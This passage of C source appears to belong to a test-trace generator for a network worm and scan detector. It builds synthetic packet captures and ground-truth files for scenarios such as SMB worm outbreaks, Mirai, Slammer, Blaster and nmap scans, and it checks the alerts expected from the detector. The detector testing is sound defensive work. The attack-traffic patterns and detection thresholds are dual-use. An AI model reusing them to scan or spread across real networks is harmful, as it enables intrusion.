	conf(tr, "# The demo office: two departments, a critical file server, a camera\n"
		 "# and a monitoring box whose job is to ping everything.\n"
		 "inventory = (\n"
		 "  { net = \"10.1.1.0/24\"; department = \"finance\"; floor = \"3\";"
		 " owner = \"IT Finance\"; },\n"
		 "  { net = \"10.1.2.0/24\"; department = \"sales\"; floor = \"2\";"
		 " owner = \"Sales Ops\"; },\n"
		 "  { net = \"10.1.1.5/32\"; name = \"fileserver\"; department = \"finance\";"
		 " floor = \"3\"; owner = \"IT Finance\"; critical = true; },\n"
		 "  { net = \"10.1.4.50/32\"; name = \"cam-lobby\"; department = \"facilities\";"
		 " floor = \"0\"; owner = \"Facilities\"; },\n"
		 "  { net = \"10.1.9.5/32\"; name = \"monitor\"; owner = \"IT Ops\";"
		 " role = \"scanner\"; }\n"
		 ");\n");

	bg_office(t, tr, 0, SEC(90), office, ARRAY_SIZE(office));
	/* Patient zero browses normally for 5 s, then the worm starts. */
	dns_lookup(t, MS(300), pz, res, "www.example.com", 1, NULL);
	tcp_attempt(t, MS(400), pz, 0, host(t, name_addr("www.example.com")), 443, OC_OPEN, HTTPS,
		    ARRAY_SIZE(HTTPS), 0);
	dns_lookup(t, SEC(2), pz, res, "news.example.com", 1, NULL);
	tcp_attempt(t, SEC(2) + MS(50), pz, 0, host(t, name_addr("news.example.com")), 443, OC_OPEN,
		    HTTPS, ARRAY_SIZE(HTTPS), 0);

	w = smb_scan(pz, SEC(5), SEC(90), MS(100));
	worm_scan(t, &w);
	infect(t, SEC(12), pz, f2);
	w.h = f2;
	w.start = SEC(15);
	worm_scan(t, &w);
	infect(t, SEC(20), f2, fs);
	w.h = fs;
	w.start = SEC(24);
	worm_scan(t, &w);
	infect(t, SEC(30), pz, s1);
	w.h = s1;
	w.start = SEC(34);
	worm_scan(t, &w);
	infect(t, SEC(45), s1, s2);
	w.h = s2;
	w.start = SEC(50);
	worm_scan(t, &w);

	/* The lobby camera joins a Mirai botnet. */
	mirai_scan(t, cam, SEC(40), 400, MS(50));

	/* The monitoring box pings the server network every 30 s. */
	for (unsigned i = 0; i < 60; i++) {
		tg[i] = host(t, a4(10, 2, 3, i + 1));
		ans[i] = i % 4 != 3;
	}
	for (unsigned r = 0; r < 3; r++)
		ping_sweep(t, mon, tg, ans, 60, SEC(10) + r * SEC(30), MS(20));

	e = expect(tr, pz, "smb-propagation", "isolate");
	expect_not_before(e, SEC(5));
	expect_ports(e, 2, PORTS_SMB);
	expect_field(e, "department", "finance");
	expect_field(e, "floor", "3");
	expect_field(e, "owner", "IT Finance");
	expect_not_before(expect(tr, f2, "smb-propagation", "isolate"), SEC(15));
	e = expect(tr, fs, "smb-propagation", "contain");
	expect_not_before(e, SEC(24));
	expect_field(e, "name", "fileserver");
	max_action(tr, fs, "contain");
	e = expect(tr, s1, "smb-propagation", "isolate");
	expect_not_before(e, SEC(34));
	expect_field(e, "department", "sales");
	expect_field(e, "floor", "2");
	expect_not_before(expect(tr, s2, "smb-propagation", "isolate"), SEC(50));
	e = expect(tr, cam, "telnet-propagation", "isolate");
	expect_not_before(e, SEC(40));
	expect_field(e, "name", "cam-lobby");
	no_alert(tr, mon);
	incident(tr, "smb-propagation", pz, 5);
	incident(tr, "telnet-propagation", cam, 1);
	infected_by(tr, f2, pz);
	infected_by(tr, fs, f2);
	infected_by(tr, s1, pz);
	infected_by(tr, s2, s1);
	tr->exclusive = true;
}

/* SMB sessions that all succeed, to n distinct servers, gap apart. */
static void smb_client(struct trace *t, struct host *h, unsigned n, int64_t start, int64_t gap)
{
	struct addr d[16];

	pick_addrs(t, d, n, POOL_SRV, 1, NULL, 0);
	for (unsigned i = 0; i < n; i++)
		tcp_attempt(t, start + i * gap, h, 0, host_as(t, d[i], ST_WIN), 445, OC_OPEN,
			    SMB_SESSION, ARRAY_SIZE(SMB_SESSION), 0);
}

static void sc_threshold_boundary(struct trace *t, struct truth *tr)
{
	struct host *a = Hs(t, "10.1.0.120", ST_WIN);
	struct host *b = Hs(t, "10.1.0.121", ST_WIN);

	bg_office(t, tr, 0, SEC(10), BG2, ARRAY_SIZE(BG2));
	smb_client(t, a, 9, SEC(2), MS(500));
	smb_client(t, b, 10, SEC(2) + MS(250), MS(500));
	no_alert(tr, a);
	expect_not_before(expect(tr, b, "smb-propagation", "isolate"), SEC(2));
	tr->exclusive = true;
}

static void sc_window_expiry(struct trace *t, struct truth *tr)
{
	struct host *c = Hs(t, "10.1.0.122", ST_WIN);

	bg_office(t, tr, 0, SEC(95), BG2, 1);
	smb_client(t, c, 12, SEC(1), SEC(8)); /* at most 8 in any 60 s */
	no_alert(tr, c);
	forbid(tr, c, "smb-propagation");
	tr->exclusive = true;
}

static void sc_smb_worm_ipv6(struct trace *t, struct truth *tr)
{
	static const char *const pool6[] = {"fd00:2::/64"};
	struct host *w = Hs(t, "fd00:1::15", ST_WIN);
	struct host *gw6 = Hs(t, "fd00:1::1", ST_LINUX);
	struct wscan s = smb_scan(w, SEC(2), SEC(5), MS(100));

	memcpy(gw6->mac, MAC_GW, 6);
	s.pools = pool6;
	s.npools = 1;
	s.p_rst = 20;
	bg_office(t, tr, 0, SEC(8), BG2, ARRAY_SIZE(BG2));
	nd_exchange(t, SEC(1), w, gw6);
	worm_scan(t, &s);
	expect_not_before(expect(tr, w, "smb-propagation", "isolate"), SEC(2));
	expect_ports(&tr->expect[0], 2, PORTS_SMB);
	no_alert(tr, gw6);
	tr->exclusive = true;
}

static void sc_config_rules(struct trace *t, struct truth *tr)
{
	static const struct msg telnet[] = {SRVB("\xff\xfd\x18\xff\xfd\x20"),
					    CLIB("\xff\xfc\x18\xff\xfc\x20"),
					    SRV("\r\nUser Access Verification\r\n\r\nUsername: "),
					    CLI("netops\r\n"),
					    SRV("Password: "),
					    CLI("s3cret\r\n"),
					    SRV("\r\nsw-floor2>"),
					    CLI("show version\r\n"),
					    SRVN(900),
					    CLI("exit\r\n")};
	struct host *a = Hs(t, "10.1.0.130", ST_WIN);
	struct host *b = Hs(t, "10.1.0.131", ST_LINUX);
	struct addr d[15];

	conf(tr, "# Lower the SMB threshold, switch telnet propagation off.\n"
		 "rules = (\n"
		 "  { name = \"smb-propagation\"; distinct_dst = 5; },\n"
		 "  { name = \"telnet-propagation\"; enabled = false; }\n"
		 ");\n");
	bg_office(t, tr, 0, SEC(12), BG2, ARRAY_SIZE(BG2));
	smb_client(t, a, 6, SEC(2), MS(400));
	/* An admin script logging into 15 switches over telnet. */
	pick_addrs(t, d, 15, POOL_SRV, 1, NULL, 0);
	for (unsigned i = 0; i < 15; i++)
		tcp_attempt(t, SEC(2) + i * MS(500), b, 0, host_as(t, d[i], ST_LINUX), 23, OC_OPEN,
			    telnet, ARRAY_SIZE(telnet), 0);
	expect_not_before(expect(tr, a, "smb-propagation", "isolate"), SEC(2));
	forbid(tr, b, "telnet-propagation");
	no_alert(tr, b);
	tr->exclusive = true;
}

static void sc_snaplen(struct trace *t, struct truth *tr)
{
	struct host *sc = Hs(t, "10.1.0.94", ST_LINUX);

	small_worm(t, tr, SEC(1));
	udp_port_scan(t, sc, Hs(t, "10.2.0.11", ST_LINUX), 60, SEC(2), MS(10));
	expect_not_before(expect(tr, sc, "vertical-scan", "contain"), SEC(2));
	no_alert(tr, H(t, "10.2.0.11"));
}

/* ------------------------------------------------------------------ */
/* Scenario table and main                                             */
/* ------------------------------------------------------------------ */

enum {
	SC_NANO = 1u << 0,     /* nanosecond-resolution pcap */
	SC_NO_TRUTH = 1u << 1, /* only the pcap (for malformed-input tests) */
};

struct scenario {
	const char *name;
	enum link link;
	unsigned flags;
	int snaplen; /* 0: 262144 */
	void (*fn)(struct trace *t, struct truth *tr);
	const char *desc;
};

static const struct scenario SCENARIOS[] = {
	{"smb-worm", LK_ETH, 0, 0, sc_smb_worm,
	 "Patient zero 10.1.0.5 SYN-scans random 10.2.x.y:445 (and 139) at 30/s from T+2 s; "
	 "at T+22 s it exploits 10.1.0.6 and 10.1.0.7, which scan from T+27 s and T+31 s. "
	 "Office hosts browse and use DNS throughout."},
	{"blaster-rpc", LK_ETH, 0, 0, sc_blaster_rpc,
	 "Blaster on 10.1.0.20 scans 10.2.0.1-200 on 135/tcp in sequential bursts of 20, "
	 "exploits the RPC server 10.2.0.10 (shell on 4444, TFTP download); 10.1.0.21 uses "
	 "that RPC server normally."},
	{"rdp-worm", LK_ETH, 0, 0, sc_rdp_worm,
	 "Morto-like 10.1.0.30 probes random 10.2.x.y:3389 at 10/s."},
	{"ssh-worm", LK_ETH, 0, 0, sc_ssh_worm,
	 "A Linux SSH brute-forcing worm on 10.1.0.31 probes port 22 of internal and outside "
	 "addresses at 20/s: medium severity, contain."},
	{"telnet-mirai", LK_ETH, 0, 0, sc_telnet_mirai,
	 "Mirai on camera 10.1.0.35: raw SYNs (no options, seq = target address, one source "
	 "port) to 23 and 2323 of random public addresses; brute force on the few that accept."},
	{"slammer", LK_ETH, 0, 0, sc_slammer,
	 "SQL Slammer on 10.1.0.36: single 376-byte UDP datagrams to 1434 of random addresses, "
	 "no replies."},
	{"smtp-mass-mailing", LK_ETH, 0, 0, sc_smtp_mass_mailing,
	 "Spam bot 10.1.0.40 delivers to 30 MX servers in 30 s (MX lookups, full SMTP sessions); "
	 "the mail server 10.1.5.25 (role mailserver) does the same and is exempt."},
	{"icmp-sweep", LK_ETH, 0, 0, sc_icmp_sweep,
	 "fping from 10.1.0.50: echo requests to 40 addresses of 10.2.3.0/24 in 3 s, 10 reply, "
	 "the rest get one retry."},
	{"icmpv6-sweep", LK_ETH, 0, 0, sc_icmpv6_sweep,
	 "ICMPv6 echo sweep from fd00:1::5 of 40 addresses of fd00:2::/64, 10 reply."},
	{"arp-sweep", LK_ETH, 0, 0, sc_arp_sweep,
	 "arp-scan from 10.1.7.99 of 10.1.7.0/24 (6 replies); a PC resolving its gateway and 3 "
	 "peers; a gratuitous ARP; an RFC 5227 address probe."},
	{"horizontal-p2p", LK_ETH, 0, 0, sc_horizontal_p2p,
	 "Gnutella client 10.1.0.80: 60 peers on 6346, 3 accept, ~half refuse, the rest silent "
	 "(at most watch). Ethereum node 10.1.0.81: 50 peers on 30303, 47 accept, UDP discovery "
	 "answered (no alert)."},
	{"vertical-syn-scan", LK_ETH, 0, 0, sc_vertical_syn_scan,
	 "nmap -sS from 10.1.0.90 of ports 1-1000 of 10.2.0.9 after host discovery; 5 open."},
	{"vertical-stealth", LK_ETH, 0, 0, sc_vertical_stealth,
	 "nmap FIN (10.1.0.91), NULL (10.1.0.92) and XMAS (10.1.0.93) scans of 200 ports each; "
	 "closed ports answer RST/ACK."},
	{"vertical-udp", LK_ETH, 0, 0, sc_vertical_udp,
	 "nmap -sU from 10.1.0.94 of 300 ports of 10.2.0.11; closed ports answer ICMP port "
	 "unreachable quoting the probe; DNS and NTP answer."},
	{"vertical-ipv6", LK_ETH, 0, 0, sc_vertical_ipv6,
	 "IPv6 SYN scan from fd00:1::9 of 300 ports of fd00:2::20; every fifth probe carries a "
	 "hop-by-hop options header."},
	{"trw-fast", LK_ETH, 0, 0, sc_trw_fast,
	 "10.1.0.95 makes 8 first contacts (4 on 445, 4 on other ports), all refused: TRW flags "
	 "it, medium because 445 is a worm port."},
	{"trw-low", LK_ETH, 0, 0, sc_trw_low,
	 "10.1.0.97 makes 8 first contacts on random high ports, all refused: TRW, low "
	 "severity."},
	{"trw-dark-first", LK_ETH, 0, 0, sc_trw_dark_first,
	 "10.1.0.103 sweeps 10.2.x.y:6379 at ~100/s; its first probe and two in five of the rest "
	 "go into dark space, the others are refused (jitter, resets out of order): TRW flags it "
	 "by its fourth reset, not at the first timeout; watch."},
	{"trw-dead-servers", LK_ETH, 0, 0, sc_trw_dead_servers,
	 "10.1.0.104 opens HTTPS to 40 servers, one in four dead: their timeouts come 3 s after "
	 "the later successes; no alert."},
	{"dark-sweep", LK_ETH, 0, 0, sc_dark_sweep,
	 "10.1.0.105 sweeps 10.3.x.y (protected, nobody lives there) on tcp/8080 at ~20/s: "
	 "dark-space contains it on that port; 10.1.0.106 tries 5 dead internal servers (no "
	 "dark-space, at most watch); 10.1.0.107's refused sweep of live hosts is not dark (at "
	 "most watch)."},
	{"ack-scan", LK_ETH, 0, 0, sc_ack_scan,
	 "nmap -sA from 10.1.0.140 of ports 1-1000 of 10.2.0.30, every port answering a reset (2% "
	 "lost, asked again); nmap -sW from 10.1.0.141 of 200 ports of the filtered 10.2.0.31 "
	 "(silence); hping3 -A from 10.1.0.142 sweeping tcp/80 over 60 internal addresses, two "
	 "in three answered."},
	{"ack-lookalikes", LK_ETH, 0, 0, sc_ack_lookalikes,
	 "Bare ACKs that are no probes: a Windows client's downloads seen from mid-flow (30 "
	 "servers, 24 FTP data ports of one), a server's ACKs to outside clients' ephemeral "
	 "ports, a laptop waking to 40 stale connections reset by 25 servers, 26 connections "
	 "idle for 70 s, and backscatter to a forged address: no alerts."},
	{"ssh-bruteforce", LK_ETH, 0, 0, sc_ssh_bruteforce,
	 "10.1.0.140 guesses SSH passwords on 10.2.0.22 (4 parallel tasks, 3 passwords per "
	 "connection, most closed by the server, SYNs lost now and then): watched within 20 s, "
	 "contained on tcp/22 towards that server at 20 connections; 10.1.0.141 does the same "
	 "to RDP on 10.2.0.33."},
	{"bruteforce-look-alikes", LK_ETH, 0, 0, sc_bruteforce_look_alikes,
	 "Configuration management without connection reuse on 5 servers (command, 42 KiB "
	 "module, command: 60 connections each in about a minute), an ssh check every minute, "
	 "IMAPS polling every 30 s, two mistyped passwords then a session, an SMB file copy in "
	 "8 sessions: no alerts."},
	{"one-way-scan", LK_ETH, 0, 0, sc_one_way_scan,
	 "masscan-like one-direction SYNs from 10.1.0.98 (source port 61000, no options, window "
	 "1024) to 100 ports of 203.0.113.50, no replies; the file ends 1 s after the last "
	 "probe."},
	{"retransmit-no-double-count", LK_ETH, 0, 0, sc_retransmit,
	 "10.1.0.96 SYNs 9 distinct 10.2.x.y:445, each retransmitted 5 times, some retried from a "
	 "new port; 10.1.0.99 makes 3 failed first contacts (below TRW's 4); every packet in the "
	 "file is captured twice."},
	{"benign-browser", LK_ETH, 0, 0, sc_benign_browser,
	 "A browser (60 HTTPS connections to 45 servers in 10 s), a resolver serving 200 clients "
	 "and recursing to 20 servers, a client of DC/LDAP/SMB/IMAPS/NTP, and a passive FTP "
	 "client with 40 data connections: no alerts."},
	{"traceroute", LK_ETH, 0, 0, sc_traceroute,
	 "UDP traceroute from 10.1.0.70 to 203.0.113.80 (17 hops away; 3 probes per hop up to "
	 "hop 20): time-exceeded from routers, one silent hop, port unreachable from the "
	 "destination."},
	{"broadcast-noise", LK_ETH, 0, 0, sc_broadcast_noise,
	 "20 hosts send DHCP, NetBIOS 137/138 broadcasts, mDNS (v4 and v6), LLMNR, SSDP, "
	 "WS-Discovery, DHCPv6 and IGMP: no alerts."},
	{"multicast-responders", LK_ETH, 0, 0, sc_multicast_responders,
	 "20 hosts send SSDP searches and mDNS QU questions to groups; a UPnP router and a "
	 "printer answer each one unicast: no alerts."},
	{"critical-asset", LK_ETH, 0, 0, sc_critical_asset,
	 "SMB worm on the critical file server 10.1.5.10: capped at contain."},
	{"never-block", LK_ETH, 0, 0, sc_never_block,
	 "SMB worm on 10.1.0.1, which the config puts in never_block."},
	{"outside-scanner", LK_ETH, 0, 0, sc_outside_scanner,
	 "198.51.100.7 scans 10.1.0.0/24 on 445; one host in six answers (RST, a few SYN-ACK)."},
	{"linktype-vlan", LK_VLAN, 0, 0, sc_linktype,
	 "Small SMB worm (12 targets) on Ethernet with an 802.1Q tag; 10.1.0.8 makes 3 failed "
	 "first contacts (no alert); IPv6 DNS."},
	{"linktype-qinq", LK_QINQ, 0, 0, sc_linktype,
	 "Small SMB worm on Ethernet with 802.1ad + 802.1Q tags."},
	{"linktype-sll", LK_SLL, 0, 0, sc_linktype,
	 "Small SMB worm in Linux cooked (SLL) framing."},
	{"linktype-sll2", LK_SLL2, 0, 0, sc_linktype,
	 "Small SMB worm as 'tcpdump -i any' on the router writes it (SLL2): every routed packet "
	 "twice, in on one interface and out on the other."},
	{"linktype-raw", LK_RAW, 0, 0, sc_linktype, "Small SMB worm as raw IP (LINKTYPE_RAW)."},
	{"linktype-null", LK_NULL, 0, 0, sc_linktype,
	 "Small SMB worm with BSD loopback headers (DLT_NULL)."},
	{"fragments", LK_ETH, 0, 0, sc_fragments,
	 "SMB worm 10.1.0.110 whose SYNs are IPv4 first fragments plus trailing fragments; "
	 "10.1.0.112 sends only non-first fragments whose bytes look like SYNs to 445; "
	 "fd00:1::11 sends fragmented IKE to 30 IPv6 gateways, all answered."},
	{"outbreak", LK_ETH, 0, 0, sc_outbreak,
	 "Demo: an SMB worm outbreak in an office. Patient zero 10.1.1.23 (finance) at T+5 s, "
	 "spreading to 10.1.1.31, the critical file server 10.1.1.5, and 10.1.2.14 and "
	 "10.1.2.40 (sales); a Mirai camera; a monitoring box (role scanner) pinging servers; "
	 "office browsing throughout."},
	{"threshold-boundary", LK_ETH, 0, 0, sc_threshold_boundary,
	 "10.1.0.120 opens SMB sessions to 9 servers (below the threshold), 10.1.0.121 to 10 "
	 "(at it)."},
	{"window-expiry", LK_ETH, 0, 0, sc_window_expiry,
	 "10.1.0.122 opens SMB sessions to 12 servers, one every 8 s: never 10 in 60 s."},
	{"smb-worm-ipv6", LK_ETH, 0, 0, sc_smb_worm_ipv6,
	 "SMB worm fd00:1::15 scanning fd00:2::/64 on 445/139."},
	{"config-rules", LK_ETH, 0, 0, sc_config_rules,
	 "Config lowers smb-propagation to 5 destinations and disables telnet-propagation: "
	 "10.1.0.130 with 6 SMB servers is flagged, 10.1.0.131 logging into 15 switches over "
	 "telnet is not."},
	{"nanosecond", LK_ETH, SC_NANO, 0, sc_linktype,
	 "Small SMB worm in a nanosecond-resolution pcap."},
	{"snaplen-96", LK_ETH, 0, 96, sc_snaplen,
	 "Small SMB worm and a 60-port UDP scan captured with a 96-byte snaplen."},
	{"unknown-linktype", LK_USER0, SC_NO_TRUTH, 0, sc_linktype,
	 "IP packets under DLT_USER0, a link type nobody decodes (malformed-input test)."},
};

static int write_text(const char *path, const char *text, size_t len)
{
	FILE *f = fopen(path, "we");
	int r = 0;

	if (!f)
		return -errno;
	if (fwrite(text, 1, len, f) != len)
		r = -EIO;
	if (fclose(f) != 0 && r == 0)
		r = -errno;
	return r;
}

static int run_scenario(const struct scenario *sc, const char *outdir)
{
	struct trace t;
	struct truth *tr = xcalloc(1, sizeof(*tr));
	char path[4096];
	int r;

	memset(&t, 0, sizeof(t));
	t.link = sc->link;
	t.rng.s = fnv1a(sc->name, strlen(sc->name));
	t.hosts = xcalloc(HOST_SLOTS, sizeof(*t.hosts));
	sc->fn(&t, tr);

	snprintf(path, sizeof(path), "%s/%s.pcap", outdir, sc->name);
	r = trace_write_pcap(&t, path, sc->snaplen ? sc->snaplen : 262144, sc->flags & SC_NANO);
	if (r < 0) {
		fprintf(stderr, "%s: %s: %s\n", prog, path, strerror(-r));
		goto out;
	}
	if (tr->conflen) {
		char head[256];
		int n = snprintf(head, sizeof(head),
				 "# quarantined.conf for the tracegen scenario \"%s\".\n",
				 sc->name);

		snprintf(path, sizeof(path), "%s/%s.conf", outdir, sc->name);
		memmove(tr->conf + n, tr->conf, tr->conflen + 1);
		memcpy(tr->conf, head, (size_t)n);
		tr->conflen += (size_t)n;
		r = write_text(path, tr->conf, tr->conflen);
		if (r < 0) {
			fprintf(stderr, "%s: %s: %s\n", prog, path, strerror(-r));
			goto out;
		}
	}
	if (!(sc->flags & SC_NO_TRUTH)) {
		FILE *f;

		snprintf(path, sizeof(path), "%s/%s.json", outdir, sc->name);
		f = fopen(path, "we");
		if (!f) {
			r = -errno;
			fprintf(stderr, "%s: %s: %s\n", prog, path, strerror(-r));
			goto out;
		}
		truth_write(f, sc->name, sc->desc, tr);
		if (fclose(f) != 0) {
			r = -errno;
			fprintf(stderr, "%s: %s: %s\n", prog, path, strerror(-r));
			goto out;
		}
	}
	r = 0;
out:
	free(t.hosts);
	free(t.recs);
	free(t.arena);
	free(tr);
	return r;
}

static void usage(FILE *f)
{
	fprintf(f,
		"usage: %s OUTDIR [NAME...]\n"
		"       %s --list\n"
		"Writes OUTDIR/NAME.pcap, NAME.json (ground truth) and NAME.conf for each\n"
		"scenario (all of them when no NAME is given).\n",
		prog, prog);
}

static const struct scenario *find_scenario(const char *name)
{
	for (size_t i = 0; i < ARRAY_SIZE(SCENARIOS); i++)
		if (strcmp(SCENARIOS[i].name, name) == 0)
			return &SCENARIOS[i];
	return NULL;
}

int main(int argc, char **argv)
{
	const char *outdir;

	if (argc >= 2 && strcmp(argv[1], "--list") == 0) {
		for (size_t i = 0; i < ARRAY_SIZE(SCENARIOS); i++)
			printf("%s\n", SCENARIOS[i].name);
		return 0;
	}
	if (argc >= 2 && (strcmp(argv[1], "-h") == 0 || strcmp(argv[1], "--help") == 0)) {
		usage(stdout);
		return 0;
	}
	if (argc < 2 || argv[1][0] == '-') {
		usage(stderr);
		return 2;
	}
	outdir = argv[1];
	for (int i = 2; i < argc; i++) {
		if (!find_scenario(argv[i])) {
			fprintf(stderr, "%s: unknown scenario \"%s\" (see --list)\n", prog,
				argv[i]);
			return 2;
		}
	}
	if (mkdir(outdir, 0755) < 0 && errno != EEXIST) {
		fprintf(stderr, "%s: %s: %s\n", prog, outdir, strerror(errno));
		return 1;
	}
	for (size_t i = 0; i < ARRAY_SIZE(SCENARIOS); i++) {
		bool want = argc == 2;

		for (int j = 2; j < argc && !want; j++)
			want = strcmp(argv[j], SCENARIOS[i].name) == 0;
		if (want && run_scenario(&SCENARIOS[i], outdir) < 0)
			return 1;
	}
	return 0;
}
